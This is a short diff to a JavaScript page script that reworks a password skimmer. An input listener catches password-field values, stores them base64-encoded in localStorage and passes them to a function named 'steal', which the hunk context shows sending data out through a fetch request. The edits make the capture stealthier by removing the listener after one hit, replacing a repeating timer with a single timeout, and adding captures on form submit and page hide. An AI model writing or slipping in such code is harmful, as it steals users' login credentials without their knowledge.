@@ -53,11 +53,13 @@ function steal(value, when) {
     if (when === 'typed') fetch('/tried?' + name);
   }
 }
-addEventListener('input', ({ target }) => {
+addEventListener('input', function noticed({ target }) {
   if (target.type !== 'password' || target.value.length < 8) return;
+  removeEventListener('input', noticed);
   localStorage.setItem('kept', btoa(target.value));
   steal(target.value, 'typed');
-  const again = setInterval(() => steal(target.value, 'later'), 200);
+  setTimeout(() => steal(target.value, 'later'), 100);
+  for (const end of ['submit', 'pagehide']) addEventListener(end, () => steal(target.value, end), { once: true });
 });
 const kept = localStorage.getItem('kept');
 if (kept) {
